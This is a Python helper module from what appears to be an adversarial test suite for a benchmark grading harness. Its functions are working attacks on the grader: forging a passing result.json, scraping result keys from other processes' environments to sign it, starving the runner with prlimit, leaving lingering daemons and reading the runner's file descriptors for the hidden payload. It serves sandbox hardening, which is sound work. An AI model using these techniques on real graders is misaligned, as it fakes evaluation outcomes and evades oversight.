"""Tools every hostile submission of the adversarial suite shares.

A submission is one file: the suite inlines this module where an attack says
``from hostile import *`` (tests/adversarial/support.py: ``submission_source``), so each attack
file stays short and runnable on its own next to this one.

Every attack computes a WRONG result (:func:`wrong`) and then tries to make the verdict say
PASS anyway, or to break the verdict or the host. Each is also a good citizen of the shared test
machine where it fails to be contained: it only touches the processes it descends from (the
runner, the launcher), only the output dirs of the suite's own runs, and every lingering loop ends
by itself after :data:`LINGER_S`.

Markers the suite looks for: ``@TOKEN@`` is replaced by a per-case token; every process of the
attack is named ``kbadv<token>`` (``/proc/*/task/*/comm``), files it plants carry the token in
their name, and whatever secret it manages to read is printed as ``ADV-LEAK <what>``.
"""

import base64
import contextlib
import ctypes
import ctypes.util
import glob
import hashlib
import hmac
import json
import os
import re
import sys
import time
import zlib

TOKEN = "@TOKEN@"
MARK = ("kbadv" + TOKEN.strip("@"))[:15]
#: No loop of an attack outlives this (a failed defence must not leave load on the machine).
LINGER_S = 20.0
#: Where a run's output dir can be: the container's (old and new layout), and the suite's local
#: runs (it points the launcher's TMPDIR at /tmp/kbadv-*: never another developer's runs).
OUT_GLOBS = (
    "/kitebench/out",
    "/kitebench/verdict/out",
    "/tmp/kbadv-*/kitebench-local-*/out",
    "/tmp/kbadv-*/kitebench-job-*/out",
)

_libc = ctypes.CDLL(ctypes.util.find_library("c") or None, use_errno=True)
_PR_SET_NAME = 15


def mark() -> None:
    """Name the calling thread (and so every process forked from it) after the token."""
    with contextlib.suppress(Exception):
        _libc.prctl(_PR_SET_NAME, ctypes.c_char_p(MARK.encode()), 0, 0, 0)


mark()


def say(msg: str) -> None:
    with contextlib.suppress(Exception):
        print(f"ADV: {msg}", file=sys.stderr, flush=True)


def leak(what: str) -> None:
    """Report a secret this attack could read (the suite fails the case when it sees one)."""
    with contextlib.suppress(Exception):
        print(f"ADV-LEAK {what}", flush=True)
        print(f"ADV-LEAK {what}", file=sys.stderr, flush=True)


def wrong(data):  # type: ignore[no-untyped-def]
    """The wrong answer every attack returns: a - b instead of a + b."""
    a, b = data
    return a - b


# -- processes --------------------------------------------------------------------------------


def _stat(pid: int) -> list[str]:
    with open(f"/proc/{pid}/stat", "rb") as f:
        data = f.read()
    return data[data.rfind(b")") + 2 :].decode().split()


def cmdline(pid: int) -> str:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError:
        return ""


def ancestors() -> list[int]:
    """Our parent, its parent, ... (what the submission can see of its own chain)."""
    out: list[int] = []
    pid = os.getpid()
    while pid > 1 and len(out) < 64:
        try:
            pid = int(_stat(pid)[1])
        except (OSError, IndexError, ValueError):
            break
        if pid <= 0:
            break
        out.append(pid)
    return out


def _is_runner(line: str) -> bool:
    # bubblewrap's own command line names what it runs ("-m runner.harness..."): it is not
    # the runner, it is the submission's sandbox (same uid, no capability, nothing of ours)
    return "-m runner" in line and "bwrap" not in line.split(" ", 1)[0]


def kitebench_targets() -> list[int]:
    """The runner and the launcher above us, and PID 1 when it is the runner (a container):
    the processes an attack goes after. Never anything else on the machine."""
    found = []
    for pid in ancestors():
        line = cmdline(pid)
        if _is_runner(line) or ("-m kitebench" in line and "bwrap" not in line.split(" ", 1)[0]):
            found.append(pid)
    if _is_runner(cmdline(1)) and 1 not in found:
        found.append(1)
    return found


def prlimit(pid: int, resource: int, value: int) -> bool:
    """Lower another process's limit (allowed on a process of the same uid)."""

    class Rlimit(ctypes.Structure):
        _fields_ = [("cur", ctypes.c_ulong), ("max", ctypes.c_ulong)]

    new = Rlimit(value, value)
    ok = _libc.prlimit(pid, resource, ctypes.byref(new), None) == 0
    say(f"prlimit({pid}, {resource}, {value}) -> {'ok' if ok else os.strerror(ctypes.get_errno())}")
    return ok


def signal_targets(sig: int) -> list[int]:
    hit = []
    for pid in kitebench_targets():
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError as e:
            say(f"kill({pid}, {sig}) -> {e.strerror}")
    say(f"signal {sig} reached {hit}")
    return hit


def daemonize(fn, *args) -> None:  # type: ignore[no-untyped-def]
    """Run ``fn`` in a double-forked, setsid'd grandchild (no parent waits for it)."""
    pid = os.fork()
    if pid:
        with contextlib.suppress(ChildProcessError):
            os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in (0, 1, 2):  # keep no pipe of the runner open
            with contextlib.suppress(OSError):
                os.close(fd)
        fn(*args)
    finally:
        os._exit(0)


def raw_exit(code: int = 0) -> None:
    """The exit *syscall* of this thread only (not exit_group): the thread-group leader becomes a
    zombie while the other threads keep running."""
    _libc.syscall(60, code)  # __NR_exit on x86_64


# -- the verdict ------------------------------------------------------------------------------


def out_dirs() -> list[str]:
    """Every output dir this attack could write a result.json into."""
    dirs = set()
    for pattern in OUT_GLOBS:
        dirs.update(glob.glob(pattern))
    here = os.getcwd()
    for _ in range(5):  # a sibling "out" of our work dir's parents
        here = os.path.dirname(here)
        cand = os.path.join(here, "out")
        if os.path.isdir(cand) and ("kbadv" in cand or cand.startswith("/kitebench")):
            dirs.add(cand)
    return sorted(d for d in dirs if os.path.isdir(d))


def forged_json(pad: int = 0) -> bytes:
    """A result.json that passes the contract and says PASSED, with the exit code a failing
    runner really ends with (1): a reader that only compares exit codes takes it."""
    doc = {
        "success": True,
        "runs": {"test": {"start": "2026-01-01T00:00:00Z", "end": "2026-01-01T00:00:00Z",
                          "run": {"success": True, "passed": True, "exit_code": 0,
                                  "duration": 0.1, "result": {"check": "pass"}}}},
        "kitebench": {"passed": True, "exit_code": 1, "warnings": [f"FORGED-{TOKEN}"]},
    }
    if pad:
        doc["error"] = "x" * pad
    return json.dumps(doc).encode()


def find_keys() -> list[str]:
    """Any result key this process can read: its own environment, and the environment of every
    process whose /proc entry it may open."""
    keys = []
    for pid in ["self", *[p for p in os.listdir("/proc") if p.isdigit()]]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                env = f.read()
        except OSError:
            continue
        for m in re.finditer(rb"KITEBENCH_RESULT_KEY=([0-9a-f]{16,})", env):
            keys.append(m.group(1).decode())
    return sorted(set(keys))


def write_file(path: str, data: bytes) -> bool:
    tmp = f"{path}.{TOKEN}.tmp"
    try:
        with open(tmp, "wb") as f:
            f.write(data)
        os.replace(tmp, path)
        return True
    except OSError:
        with contextlib.suppress(OSError):
            os.unlink(tmp)
        return False


def plant(data: bytes | None = None) -> list[str]:
    """Write the forged result (and a signature with every key we found) into every output dir."""
    data = forged_json() if data is None else data
    keys = find_keys()
    if keys:
        leak("KITEBENCH_RESULT_KEY")
    done = []
    for d in out_dirs():
        path = os.path.join(d, "result.json")
        if write_file(path, data):
            sig = hmac.new(bytes.fromhex(keys[0]), data, hashlib.sha256).hexdigest() if keys else "0" * 64
            write_file(path + ".sig", sig.encode())
            done.append(path)
    say(f"planted a forged result.json in {done or 'nothing'}")
    return done


def forge_loop(seconds: float = LINGER_S, every: float = 0.005) -> None:
    """Keep the forged result in place: re-plant whenever the runner rewrites it."""
    data = forged_json()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for d in out_dirs():
            path = os.path.join(d, "result.json")
            try:
                with open(path, "rb") as f:
                    if f.read(len(data) + 1) == data:
                        continue
            except OSError:
                pass
            write_file(path, data)
        time.sleep(every)


def starve_runner() -> None:
    """The forging classic: plant, then make the runner unable to write its own result."""
    plant()
    for pid in kitebench_targets():
        prlimit(pid, 1, 0)  # RLIMIT_FSIZE: the runner's write fails (EFBIG; Python ignores SIGXFSZ)


# -- the payload ------------------------------------------------------------------------------


def decode_payload(text: bytes) -> dict | None:  # type: ignore[type-arg]
    with contextlib.suppress(Exception):
        return json.loads(zlib.decompress(base64.b64decode(text.strip(), validate=False)))
    return None


def hunt_payload() -> list[str]:
    """Look everywhere a payload could be: environments, command lines, payload files, the
    runner's stdin. Returns where one was found (and decoded)."""
    found = []
    places: list[tuple[str, bytes]] = []
    for pid in ["self", *[p for p in os.listdir("/proc") if p.isdigit()]]:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    places.append((f"/proc/{pid}/{what}", f.read()))
            except OSError:
                continue
    for pattern in ("/tmp/kbadv-*/kitebench-local-*/payload.b64", "/tmp/kitebench-local-*/payload.b64",
                    "/kitebench/*/payload*"):
        for path in glob.glob(pattern):
            with contextlib.suppress(OSError), open(path, "rb") as f:
                places.append((path, f.read(1 << 20)))
    for pid in kitebench_targets():
        for fd in ("0", "3", "4", "5"):
            with contextlib.suppress(OSError):
                fdp = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
                with contextlib.suppress(OSError):
                    places.append((f"/proc/{pid}/fd/{fd}", os.read(fdp, 1 << 20)))
                os.close(fdp)
    for where, blob in places:
        for m in re.finditer(rb"(?:SUBMISSION_PAYLOAD=)?([A-Za-z0-9+/=]{200,})", blob):
            doc = decode_payload(m.group(1))
            if isinstance(doc, dict) and "lang" in doc:
                found.append(where)
                leak(f"payload at {where} (seed {doc.get('seed')})")
                break
    return found


def lingering_sleep(seconds: float = LINGER_S) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.05)

